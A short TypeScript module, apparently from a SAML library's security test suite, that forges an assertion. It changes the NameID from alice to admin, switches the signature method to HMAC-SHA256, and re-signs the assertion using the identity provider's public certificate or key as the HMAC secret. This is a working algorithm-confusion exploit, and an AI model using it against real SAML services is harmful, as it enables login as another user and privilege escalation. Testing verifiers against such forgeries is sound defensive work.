// A signature made with what everybody knows: HMAC, its key the IdP's certificate or public key.

import { createHash, createHmac, X509Certificate } from 'node:crypto'
import { TEST_KEYS } from '../../test/support/test-keys.ts'
import { assertionOf, signatureOf } from './attack.ts'

const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256'
const HMAC_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256'
const DSIG = 'http://www.w3.org/2000/09/xmldsig#'

/** Changes the NameID, and signs the assertion anew by HMAC. */
export function hmac(key: string): (xml: string) => string {
  return (xml) => {
    const forged = xml.replace(
      '>alice@example.org</saml:NameID>',
      '>admin@example.org</saml:NameID>',
    )
    const signature = signatureOf(forged)
    const content = assertionOf(forged).replace(signature, '')
    const digest = createHash('sha256').update(content).digest('base64')
    const signedInfo = (/<ds:SignedInfo>.*<\/ds:SignedInfo>/.exec(signature)?.[0] ?? '')
      .replace(RSA_SHA256, HMAC_SHA256)
      .replace(/(<ds:DigestValue>)[^<]*/, `$1${digest}`)
    const canonical = signedInfo.replace('<ds:SignedInfo', `<ds:SignedInfo xmlns:ds="${DSIG}"`)
    const value = createHmac('sha256', publicBytes(key)).update(canonical).digest('base64')
    const forgedSignature = signature
      .replace(/<ds:SignedInfo>.*<\/ds:SignedInfo>/, signedInfo)
      .replace(/(<ds:SignatureValue>)[^<]*/, `$1${value}`)
    return forged.replace(signature, forgedSignature)
  }
}

function publicBytes(key: string): Uint8Array {
  const certificate = Buffer.from(TEST_KEYS.idp.certificate, 'base64')
  if (key === 'certificate') return certificate
  return new X509Certificate(certificate).publicKey.export({ type: 'spki', format: 'der' })
}
